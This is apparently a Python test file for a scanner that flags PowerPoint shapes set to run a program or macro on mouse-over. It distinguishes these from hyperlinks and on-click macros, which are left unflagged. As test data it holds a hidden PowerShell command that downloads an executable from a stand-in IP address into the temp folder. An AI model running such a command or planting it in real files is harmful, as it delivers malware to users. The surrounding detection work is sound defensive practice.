"""PowerPoint action settings: a shape that runs a program, or a macro on mouse-over, needs no click on
"Enable content"; hyperlinks and macros on click are not this finding."""

from kakuri.detect.office_actions import OfficeActions
from tests.builders_office import office_findings, ppt_action, ppt_with_objects, pptx_with_action, symbols_of

DETECTOR = [OfficeActions()]
PROGRAM = "powershell -NoP -W Hidden -c iwr http://198.51.100.6/a -OutFile $env:TEMP\\a.exe"


def test_slideshow_shape_running_a_program_on_mouse_over_is_flagged():
    findings = office_findings(DETECTOR, [("order.ppsx", pptx_with_action("ppaction://program", PROGRAM))])
    assert symbols_of(findings) == {"OFFICE_ACTION_PROGRAM"}
    assert findings[0].evidence == {"program": PROGRAM, "trigger": "mouse-over"}


def test_macro_on_mouse_over_runs_by_itself():
    findings = office_findings(DETECTOR, [("a.pptm", pptx_with_action("ppaction://macro?name=Module1.Go"))])
    assert symbols_of(findings) == {"MACRO_AUTOEXEC"} and "Module1.Go" in findings[0].evidence["triggers"]


def test_hyperlink_and_macro_on_click_are_not_actions_that_run_by_themselves():
    link = pptx_with_action("ppaction://hlinksldjump", mouse_over=False)
    on_click = pptx_with_action("ppaction://macro?name=Module1.Next", mouse_over=False)
    assert office_findings(DETECTOR, [("a.pptx", link), ("b.pptm", on_click)]) == []


def test_binary_presentation_actions_are_read_from_the_document_stream():
    ppt = ppt_with_objects([], records=ppt_action(2, "cmd.exe /c calc", mouse_over=True) + ppt_action(1, "Go", mouse_over=True))
    findings = office_findings(DETECTOR, [("a.pps", ppt)])
    assert symbols_of(findings) == {"OFFICE_ACTION_PROGRAM", "MACRO_AUTOEXEC"}
    assert next(f for f in findings if f.symbol == "OFFICE_ACTION_PROGRAM").evidence["program"] == "cmd.exe /c calc"
    clicks = ppt_with_objects([], records=ppt_action(1, "Go", mouse_over=False) + ppt_action(4, "", mouse_over=False))
    assert office_findings(DETECTOR, [("a.ppt", clicks)]) == []
